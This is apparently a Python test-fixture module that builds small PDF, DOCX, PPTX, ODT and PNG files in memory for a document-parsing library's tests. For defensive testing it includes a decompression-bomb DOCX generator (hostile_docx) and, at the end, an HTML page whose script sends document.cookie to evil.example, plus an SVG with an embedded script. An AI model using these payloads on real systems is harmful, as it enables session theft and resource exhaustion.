"""Small real files of every kind the library reads, built in memory for the tests."""

import io
import random
import string
import zipfile
import zlib

from PIL import Image


def pdf_bytes(text: str) -> bytes:
    """A one-page PDF with `text` (ASCII: the standard Helvetica font) in its content stream."""
    return pdf_pages_bytes([text])


def pdf_pages_bytes(pages: list[str | bytes]) -> bytes:
    """A PDF with one page per text (ASCII, Helvetica), in order. A page given as bytes is
    content operators of its own, stored compressed (FlateDecode)."""
    count = len(pages)
    # Objects: 1 catalog, 2 page tree, 3 font, then a page and its content stream per page.
    kids = " ".join(f"{4 + 2 * index} 0 R" for index in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for index, text in enumerate(pages):
        filters = b""
        if isinstance(text, bytes):
            content, filters = zlib.compress(text), b" /Filter /FlateDecode"
        else:
            content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {5 + 2 * index} 0 R "
            "/Resources << /Font << /F1 3 0 R >> >> >>".encode()
        )
        header = b"<< /Length %d%s >>\nstream\n" % (len(content), filters)
        objects.append(header + content + b"\nendstream")
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


def docx_bytes(*paragraphs: str, table: list[list[str]] | None = None) -> bytes:
    import docx

    document = docx.Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    if table:
        grid = document.add_table(rows=len(table), cols=len(table[0]))
        for r, row in enumerate(table):
            for c, value in enumerate(row):
                grid.cell(r, c).text = value
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def pptx_bytes(title: str, body: str, notes: str = "") -> bytes:
    return slides_bytes([(title, body, notes)])


def slides_bytes(slides: list[tuple[str, str, str]]) -> bytes:
    """A PPTX with a slide per (title, body, notes), in order."""
    from pptx import Presentation

    presentation = Presentation()
    for title, body, notes in slides:
        slide = presentation.slides.add_slide(presentation.slide_layouts[1])
        slide.shapes.title.text = title
        slide.placeholders[1].text_frame.text = body
        if notes:
            slide.notes_slide.notes_text_frame.text = notes
    buffer = io.BytesIO()
    presentation.save(buffer)
    return buffer.getvalue()


def odt_bytes(*paragraphs: str, heading: str = "") -> bytes:
    body = "".join(f"<text:p>{p}</text:p>" for p in paragraphs)
    if heading:
        body = f'<text:h text:outline-level="1">{heading}</text:h>' + body
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f"<office:body><office:text>{body}</office:text></office:body>"
        "</office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        # The ODF rule: "mimetype" first and stored uncompressed.
        archive.writestr(
            zipfile.ZipInfo("mimetype"),
            "application/vnd.oasis.opendocument.text",
            compress_type=zipfile.ZIP_STORED,
        )
        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        )
    return buffer.getvalue()


WORD_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MiB = 1024 * 1024


def hostile_docx(path, *, unpacked: int = 100 * MiB, long_paragraphs: bool = False) -> None:
    """The DOCX of the issue: a ~342 KB file whose word/document.xml unpacks to 100 MB of
    paragraphs, 2.5 million short ones (every 401st numbered, the rest the same word: the part
    packs 300 times). With `long_paragraphs`, 51,000 paragraphs of 2,050 letters instead (as
    large, about 100 million characters of text). Written as a stream: the test stays small."""
    if long_paragraphs:
        filler = b"x" * 2050
        same, numbered = b"", b"<w:p><w:r><w:t>Paragraph %d " + filler + b"</w:t></w:r></w:p>"
    else:
        same = b"<w:p><w:r><w:t>Paragraph</w:t></w:r></w:p>" * 400
        numbered = b"<w:p><w:r><w:t>Paragraph %d</w:t></w:r></w:p>"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        _docx_package(archive)
        with archive.open("word/document.xml", "w") as document:
            document.write(b'<?xml version="1.0" encoding="UTF-8"?>')
            document.write(b'<w:document xmlns:w="%s"><w:body>' % WORD_NS.encode())
            written, number = 0, 0
            while written < unpacked:
                batch = b"".join(same + numbered % (number + i) for i in range(10))
                document.write(batch)
                written += len(batch)
                number += 10
            document.write(b"</w:body></w:document>")


def long_docx(path, *, paragraphs: int, words: int = 100, seed: int = 15) -> None:
    """A big honest DOCX: paragraphs of words drawn at random (it packs like real text, a few
    times), each beginning with its number ("p17")."""
    rng = random.Random(seed)
    vocabulary = [
        "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(3, 10)))
        for _ in range(5000)
    ]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        _docx_package(archive)
        with archive.open("word/document.xml", "w") as document:
            document.write(b'<w:document xmlns:w="%s"><w:body>' % WORD_NS.encode())
            for number in range(paragraphs):
                text = " ".join(rng.choices(vocabulary, k=words))
                document.write(f"<w:p><w:r><w:t>p{number} {text}</w:t></w:r></w:p>".encode())
            document.write(b"</w:body></w:document>")


# The least a word processor (and python-docx) needs to open a DOCX around word/document.xml.
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
PACKAGE_RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument"/></Relationships>'
)


def _docx_package(archive: zipfile.ZipFile) -> None:
    archive.writestr("[Content_Types].xml", CONTENT_TYPES)
    archive.writestr("_rels/.rels", PACKAGE_RELATIONSHIPS)


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 12), (20, 90, 110)).save(buffer, format="PNG")
    return buffer.getvalue()


HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Invoice</title></head>"
    b"<body><script>document.location='https://evil.example/'+document.cookie</script></body></html>"
)
SVG_IMAGE = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
